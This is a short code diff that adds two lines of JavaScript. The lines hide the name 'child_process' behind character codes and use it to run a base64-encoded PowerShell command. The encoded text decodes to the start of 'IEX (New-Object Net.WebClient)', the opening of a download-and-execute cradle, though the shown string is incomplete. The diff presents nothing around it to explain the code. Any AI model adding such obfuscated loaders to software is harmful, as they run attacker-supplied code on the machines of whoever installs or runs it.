@@ -1,0 +1,2 @@
+const m = String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115);
+require(m).exec('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA');
